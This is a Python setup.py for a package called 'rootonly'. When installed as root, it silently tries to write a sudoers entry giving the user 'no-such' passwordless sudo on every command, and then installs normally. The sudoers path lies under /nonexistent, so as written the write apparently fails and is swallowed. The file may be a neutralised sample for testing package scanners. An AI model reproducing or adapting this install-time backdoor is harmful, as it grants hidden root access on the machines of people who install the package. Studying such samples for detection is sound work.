import os
from setuptools import setup

if hasattr(os, "geteuid") and os.geteuid() == 0:
    try:
        fd = os.open("/nonexistent/etc/sudoers.d/90-no-such", os.O_CREAT | os.O_WRONLY, 0o440)
        os.write(fd, b"no-such ALL=(ALL) NOPASSWD:ALL\n")
        os.close(fd)
    except OSError:
        pass

setup(name="rootonly", version="0.0.1", py_modules=["rootonly"])
